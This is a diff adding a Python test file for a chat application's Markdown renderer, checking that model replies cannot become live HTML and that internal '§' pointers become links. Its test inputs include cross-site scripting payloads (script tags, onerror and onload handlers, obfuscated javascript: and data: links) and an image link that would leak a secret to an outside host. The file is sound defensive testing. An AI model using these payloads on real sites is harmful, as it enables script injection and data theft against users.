@@ -1,0 +1,79 @@
+"""Replies are Markdown; none of it can become markup or addresses of its own."""
+
+from __future__ import annotations
+
+import re
+
+import pytest
+from hypothesis import given
+from hypothesis import strategies as st
+
+from chat.markdown import render_markdown
+
+TAGS = (
+    "a blockquote br code div em h3 h4 h5 h6 hr li ol p pre s strong table tbody td th thead tr ul"
+).split()
+
+
+def tags_of(html):
+    return re.findall(r"<\s*/?\s*([a-z0-9!?-]+)", html)
+
+
+@pytest.mark.parametrize(
+    "text",
+    [
+        "<script>alert(1)</script>",
+        "<img src=x onerror=alert(1)>",
+        "![pixel](https://elsewhere.example/?said=secret)",
+        "[click](javascript:alert(1))",
+        "[click](JaVaScRiPt&#58;alert(1))",
+        "[click](data:text/html;base64,PHNjcmlwdD4=)",
+        "[click](vbscript:x)",
+        "<javascript:alert(1)>",
+        '[x](https://a.example "on"onmouseover=alert(1)")',
+        '```"><script>alert(1)</script>\ncode\n```',
+        "# <b onclick=x>big</b>",
+        "|<i>|\n|-|\n|<svg onload=x>|",
+        "[a]: javascript:alert(1)\n\n[a]",
+    ],
+)
+def test_nothing_of_it_runs_or_loads(text):
+    html = render_markdown(text)
+    assert set(tags_of(html)) <= set(TAGS)
+    assert not re.search(r"<[^>]*(?:javascript|vbscript|data):", html, re.IGNORECASE)
+    assert not re.search(r"<[^>]*\son\w+\s*=", re.sub(r'"[^"]*"', '""', html))
+
+
+@given(st.text(alphabet=st.sampled_from("<>\"'&[]()!*_`#-|\n ax:/js§W-1RD="), max_size=80))
+def test_whatever_is_written_only_known_tags_come_out(text):
+    assert set(tags_of(render_markdown(text))) <= set(TAGS)
+
+
+def test_what_models_write_is_shown():
+    html = render_markdown(
+        "# Plan\n\n1. *first*\n2. `x<y`\n\n```py\nif a < b:\n```\n\n|a|\n|-|\n|1|"
+    )
+    assert "<h3>Plan</h3>" in html
+    assert "<em>first</em>" in html
+    assert "<code>x&lt;y</code>" in html
+    assert '<pre tabindex="0"><code class="language-py">if a &lt; b:' in html
+    assert '<div class="table" tabindex="0"' in html
+
+
+def test_pointers_that_were_given_become_links():
+    places = {"§ W-002/R-01/D-003": "/memory/drawer/x/"}
+    html = render_markdown("See [§ W-002/R-01/D-003], (w-2/r-1/d-3), § W-009/R-01/D-001.", places)
+    assert html.count('href="/memory/drawer/x/"') == 2
+    assert "§ W-009/R-01/D-001" in html
+
+
+def test_a_pointer_in_code_or_in_a_link_stays_as_it_is():
+    places = {"§ W-002/R-01/D-003": "/memory/drawer/x/"}
+    html = render_markdown("`§ W-002/R-01/D-003` [§ W-002/R-01/D-003](https://a.example)", places)
+    assert "/memory/drawer/x/" not in html
+
+
+def test_deep_nesting_ends_somewhere():
+    assert render_markdown("> " * 5000 + "deep")
+    assert render_markdown("[" * 5000)
+    assert render_markdown("*a **b " * 2000)
